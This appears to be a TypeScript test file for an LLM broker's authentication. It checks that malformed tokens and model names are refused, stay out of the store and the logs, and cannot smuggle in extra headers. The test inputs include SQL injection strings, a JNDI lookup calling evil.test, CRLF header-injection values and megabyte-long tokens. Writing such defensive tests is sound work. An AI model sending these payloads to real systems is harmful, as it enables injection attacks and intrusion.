import { afterAll, beforeEach, expect, test } from "bun:test";
import { connect } from "node:net";
import { createToken } from "@windshift/contract/tokens.ts";
import { QUESTION, startBroker, startProvider } from "./llm-broker.fixture.ts";
import { createLlmBroker } from "./llm-broker.ts";
import { LLM_WIRES } from "./llm-wire.ts";

const provider = startProvider(() => Response.json({ choices: [] }));
afterAll(() => provider.close());
beforeEach(() => {
  provider.seen.length = 0;
});

const MEGABYTE = 1_048_576;
/** None has the shape of a token, so none may cost a look at the store. */
const HOSTILE = [
  "wsrun_' OR '1'='1",
  `wsrun_${"a".repeat(42)}'`,
  `wsrun_${"a".repeat(44)}`,
  `wsrun_${"%00".repeat(14)}a`,
  `${createToken("run")}; DROP TABLE runs`,
  "%{jndi:ldap://evil.test/a}",
  `wsrun_${"é".repeat(43)}`,
  `wsrun_${"a".repeat(MEGABYTE)}`,
  "a".repeat(MEGABYTE),
  " ".repeat(MEGABYTE),
];

test("LB-07 what does not look like a token never reaches the store, by either header, however long it is", async () => {
  const looked: string[] = [];
  const log: string[] = [];
  const broker = createLlmBroker({
    grants: { find: async (token) => void looked.push(token) as undefined },
    ledger: { record: async () => {} },
    fetch,
    log: { warn: (_, message) => void log.push(message), error: (_, message) => void log.push(message) },
  });
  for (const { path } of LLM_WIRES) {
    for (const token of HOSTILE) {
      for (const headers of [{ Authorization: `Bearer ${token}` }, { "x-api-key": token }]) {
        const init = { method: "POST", headers, body: JSON.stringify(QUESTION) };
        const response = await broker(new Request(`http://broker.test${path}`, init));
        expect(response.status).toBe(401);
        expect(await response.text()).not.toContain(token.slice(0, 12));
      }
    }
  }
  expect(looked).toEqual([]);
  expect(log).toEqual([]);
  // And one that does is looked up once, as it is.
  const token = createToken("run");
  const headers = { Authorization: `Bearer ${token}` };
  const known = new Request(`http://broker.test${LLM_WIRES[0]?.path}`, { method: "POST", headers });
  expect((await broker(known)).status).toBe(401);
  expect(looked).toEqual([token]);
});

test("LB-07 a refusal costs the same for a token of a megabyte as for a short one", async () => {
  const broker = createLlmBroker({
    grants: { find: async () => undefined },
    ledger: { record: async () => {} },
    fetch,
    log: { warn: () => {}, error: () => {} },
  });
  const ask = (token: string) =>
    new Request("http://broker.test/v1/chat/completions", {
      method: "POST",
      headers: { Authorization: `Bearer ${token}` },
    });
  const fastest = async (token: string) => {
    let best = Number.POSITIVE_INFINITY;
    for (let turn = 0; turn < 50; turn++) {
      const request = ask(token);
      request.headers.get("authorization"); // what the server has read already
      const startedMs = performance.now();
      await broker(request);
      best = Math.min(best, performance.now() - startedMs);
    }
    return best;
  };
  await fastest("short");
  // The best of fifty, because other programs share the machine; a pattern run over it all would take tens of ms.
  expect(await fastest(`wsrun_${"a-".repeat(MEGABYTE / 2)}`)).toBeLessThan(5);
});

test("LB-07 a model with SQL, line ends or a template in it is refused, and its text starts no line of a log", async () => {
  const broker = startBroker(provider.url);
  const models = [
    "x'; DROP TABLE runs; --",
    "x\r\nX-Injected: 1",
    'x\n{"level":"error"}',
    "%{jndi:ldap://evil.test}",
    "x\u0000y",
  ];
  for (const model of models) {
    const response = await broker.post({ ...QUESTION, model });
    expect(response.status).toBe(403);
    expect([...response.headers.keys()]).not.toContain("x-injected");
    expect(await response.json()).toMatchObject({ error: { code: "forbidden" } });
  }
  expect([provider.seen, broker.usage, broker.log]).toEqual([[], [], []]);
  await broker.close();
});

test("LB-07 line ends and a megabyte on the wire change no request, and the broker goes on serving", async () => {
  const broker = startBroker(provider.url);
  const port = Number(new URL(broker.url).port);
  const body = JSON.stringify(QUESTION);
  const head = (authorization: string) =>
    `POST /v1/chat/completions HTTP/1.1\r\nHost: x\r\nAuthorization: ${authorization}\r\nContent-Length: ${body.length}\r\nConnection: close\r\n\r\n${body}`;
  const split = await exchange(port, head(`Bearer x\r\nX-Real: ${broker.token}`));
  expect(split).toStartWith("HTTP/1.1 401");
  const bare = await exchange(port, head(`Bearer x\n\rAuthorization: Bearer ${broker.token}`));
  expect(bare).toMatch(/^HTTP\/1\.1 4\d\d/);
  const twice = await exchange(port, head(`Bearer x\r\nAuthorization: Bearer ${broker.token}`));
  expect(twice).toMatch(/^HTTP\/1\.1 4\d\d/);
  const long = await exchange(port, head(`Bearer ${"a".repeat(MEGABYTE)}`));
  expect(long).toMatch(/^(HTTP\/1\.1 4\d\d|$)/);
  expect(provider.seen).toEqual([]);
  expect((await broker.post(QUESTION)).status).toBe(200);
  await broker.close();
});

/** What the server says to these bytes until the connection ends; "" when it ends it at once. */
function exchange(port: number, bytes: string): Promise<string> {
  return new Promise((resolve) => {
    let text = "";
    const socket = connect({ port, host: "127.0.0.1" }, () => socket.write(bytes));
    socket.on("data", (piece) => {
      text += piece.toString("latin1");
    });
    socket.on("error", () => {});
    socket.on("close", () => resolve(text));
  });
}
